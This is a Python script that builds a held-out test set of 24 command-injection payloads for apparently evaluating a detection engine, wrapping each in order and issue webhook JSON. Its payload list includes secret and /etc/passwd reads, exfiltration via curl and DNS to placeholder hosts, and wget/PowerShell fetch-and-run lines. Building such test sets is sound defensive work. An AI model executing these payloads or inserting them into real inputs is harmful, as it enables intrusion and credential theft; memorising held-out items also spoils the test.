#!/usr/bin/env python3
"""Third command-injection held-out set (2026-11-23): 24 payloads written by hand AFTER the shell-grammar change of
that day was finished, and measured once without any change to the engine afterwards (the second set,
make_cmdi_holdout2.py, prompted one fix — numeric options such as "kill -9" — so it is no longer independent).
Shapes: appended to an expected input, at the start of a value, inside substitutions, Windows cmd/PowerShell,
encoded separators, interpreters with inline code, exfiltration over DNS/HTTP. Raw JSON value and inside a webhook
body each. Writes cmdi-holdout3.jsonl in the corpus format."""
import json, os

HERE = os.path.dirname(os.path.abspath(__file__))

PAYLOADS = [
    "10.0.0.5 | id",
    "photo.heic; ls /home",
    "; tail -n 50 /var/log/auth.log",
    "&& chmod +x /tmp/.x && /tmp/.x",
    "$(cat /run/secrets/db_password)",
    "`uname -r`",
    "| whoami",
    "127.0.0.1%0aid",
    "42; head -c 100 /etc/passwd",
    "& net localgroup administrators",
    "|| ping -n 15 127.0.0.1",
    "$(curl -d @/etc/passwd https://collect.example.net)",
    "x\"; perl -e 'system(\"id\")'; \"",
    "; php -r 'echo shell_exec(\"id\");'",
    "foo.zip && unzip -o foo.zip -d /var/www",
    "; wget -qO- 203.0.113.50/s|sh",
    "|powershell -c \"iwr http://198.51.100.9/a.ps1|iex\"",
    "; ls ../../",
    "& ipconfig /all",
    "$(dig +short $(hostname).x.example.com)",
    "&&ps -ef",
    ";cat${IFS}/etc/issue",
    "; find . -name '*.key'",
    "data.json | xargs rm",
]


def order(note):
    return {"id": 991204, "status": "paid", "customer": {"name": "Ada Byron", "email": "ada@example.com"},
            "metadata": {"gift_message": note}, "amount": 12900, "currency": "usd"}


def issue(text):
    return {"action": "created", "comment": {"id": 1762, "body": text, "user": {"login": "ops-bot"}},
            "repository": {"full_name": "acme/infra"}}


def main():
    out = []
    i = 400001
    for n, p in enumerate(PAYLOADS):
        out.append({"id": i, "split": "tune", "label": "attack", "category": "CMDI", "kind": "value", "context": "json_value", "value": p})
        i += 1
        body = order(p) if n % 2 == 0 else issue(p)
        out.append({"id": i, "split": "tune", "label": "attack", "category": "CMDI", "kind": "json_body", "context": "json_value",
                    "value": json.dumps(body, ensure_ascii=False)})
        i += 1
    with open(os.path.join(HERE, "cmdi-holdout3.jsonl"), "w", encoding="utf-8") as f:
        for o in out:
            f.write(json.dumps(o, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
